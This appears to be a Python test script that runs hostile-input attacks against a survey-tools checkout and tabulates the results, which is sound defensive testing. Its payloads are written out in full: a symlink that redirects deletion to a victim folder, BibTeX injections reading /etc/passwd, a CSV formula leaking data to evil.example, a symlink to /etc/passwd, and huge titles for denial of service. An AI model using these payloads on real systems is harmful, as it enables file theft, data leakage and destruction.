"""Run the hostile-input attacks of issue 27 against a checkout and print one table row per attack.

Usage: python3 tools/attack_table.py PATH_TO_CHECKOUT   (e.g. a worktree of an older commit, to compare)
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(sys.argv[1]).resolve()
BASE = (REPO / "tests/data/records/valid/minimal-na.yaml").read_text()


def survey(root: Path, *args: str, timeout: int = 600) -> tuple[int, str, float]:
    env = {**os.environ, "PYTHONPATH": str(REPO), "SURVEY_NO_CACHE": "1"}
    t = time.monotonic()
    try:
        p = subprocess.run(
            [
                sys.executable,
                "-c",
                "from survey_tools.cli import main; main()",
                "--root",
                str(root),
                *args,
            ],
            capture_output=True,
            text=True,
            env=env,
            timeout=timeout,
        )
    except subprocess.TimeoutExpired:
        return -9, "timeout", time.monotonic() - t
    return p.returncode, p.stdout + p.stderr, time.monotonic() - t


def copy(dest: Path) -> Path:
    for n in ("taxonomy", "corpus", "exclusions", "data"):
        shutil.copytree(REPO / n, dest / n)
    return dest


def rec(key: str, **kv: str) -> str:
    t = BASE.replace("key: minimal-na", f"key: {key}").replace(
        "edition: 2605.02801v1", "edition: living\nadded: 2026-11-23"
    )
    for k, v in kv.items():
        lines = [ln for ln in t.splitlines() if not ln.startswith(f"{k}:")]
        t = "\n".join(lines + [f"{k}: {v}"]) + "\n"
    return t


def short(out: str) -> str:
    if "Traceback" in out:
        return "traceback: " + out.strip().splitlines()[-1][:90]
    lines = [ln for ln in out.splitlines() if ln.strip(". ")]
    return lines[0][:110] if lines else ""


rows = []
with tempfile.TemporaryDirectory() as tmp:
    tmp = Path(tmp)
    # 1 symlinked output folder
    root = copy(tmp / "s1")
    survey(root, "build")
    victim = tmp / "victim"
    (victim / "sub").mkdir(parents=True)
    (victim / "keep.txt").write_text("x")
    (victim / "sub/deep.txt").write_text("y")
    shutil.rmtree(root / "reports/tables")
    (root / "reports/tables").symlink_to(os.path.relpath(victim, root / "reports"))
    code, out, _ = survey(root, "build")
    left = sorted(p.name for p in victim.rglob("*"))
    rows.append(
        (
            "reports/tables -> ../../victim; survey build",
            f"exit {code}; victim now holds {left[:3]}{'...' if len(left) > 3 else ''} ({len(left)} entries)",
        )
    )
    code, out, _ = survey(root, "build", "--check")
    rows.append(("same; survey build --check", f"exit {code}: {short(out)}"))
    # 2 BibTeX doi injection
    for name, kv in [
        (
            "doi",
            {"identifiers": "{doi: '10.1234/x}}@preamble{\"\\input{/etc/hostname}\"}@comment{'}"},
        ),
        ("link", {"links": "['https://example.org/x},note={x},addendum={\\input{/etc/passwd}']"}),
    ]:
        root = copy(tmp / f"b-{name}")
        (root / f"corpus/inj-{name}.yaml").write_text(rec(f"inj-{name}", **kv))
        code, out, _ = survey(root, "validate")
        bib = root / "reports/papers.bib"
        code2, out2, _ = survey(root, "build")
        text = bib.read_text() if bib.exists() else ""
        rows.append(
            (
                f"BibTeX injection via {name}: validate / build",
                f"validate exit {code}: {short(out)} | build exit {code2}; @preamble in papers.bib: {'@preamble' in text}; addendum: {'addendum' in text}",
            )
        )
    # 3 formula title in CSV export
    root = copy(tmp / "csv")
    c3 = root / "corpus/c3.yaml"
    t = c3.read_text()
    line = next(ln for ln in t.splitlines() if ln.startswith("title:"))
    c3.write_text(t.replace(line, 'title: \'=HYPERLINK("http://evil.example/?leak="&A1,"Click")\''))
    code, out, _ = survey(root, "export", "csv", str(tmp / "csvout"))
    lines_out = (tmp / "csvout/papers.csv").read_text().splitlines()
    cell = next((ln for ln in lines_out if ln.startswith("c3,")), "")
    rows.append(
        (
            "formula title; survey export csv",
            f"exit {code}; cell starts {cell.split(',', 2)[1][:12]!r}",
        )
    )
    # 4 huge titles
    root = copy(tmp / "huge")
    for i in range(3):
        (root / f"corpus/huge-{i}.yaml").write_text(
            rec(f"huge-{i}", title='"' + "Agents " * 130_000 + str(i) + '"')
        )
    code, out, secs = survey(root, "validate", timeout=900)
    rows.append(
        ("3 records with 900 kB titles; validate", f"exit {code} in {secs:.1f} s: {short(out)}")
    )
    # 5 malformed keys
    for name, text in [
        ("int-key", rec("int-key") + "1: one\n"),
        ("sub-int-key", rec("sub-int-key", category="rl_method", subdecisions="{2: learned}")),
        ("hex-year", rec("hex-year", year="0x" + "f" * 5000)),
        ("con", rec("con")),
    ]:
        root = copy(tmp / f"k-{name}")
        (root / f"corpus/{name}.yaml").write_text(text)
        code, out, _ = survey(root, "validate")
        rows.append((f"malformed: {name}; validate", f"exit {code}: {short(out)}"))
    # 6 symlink loop, link to /etc/passwd, fifo
    root = copy(tmp / "links")
    (root / "corpus/loop.yaml").symlink_to("loop.yaml")
    (root / "corpus/passwd.yaml").symlink_to("/etc/passwd")
    os.mkfifo(root / "corpus/fifo.yaml")
    code, out, secs = survey(root, "validate", timeout=60)
    rows.append(
        (
            "symlink loop, link to /etc/passwd, FIFO in corpus/; validate",
            f"exit {code} in {secs:.1f} s: {short(out)}; passwd content shown: {'root:' in out}",
        )
    )

print(f"| attack | result ({REPO.name}) |\n| --- | --- |")
for a, r in rows:
    print(f"| {a} | {r.replace('|', '/')} |")
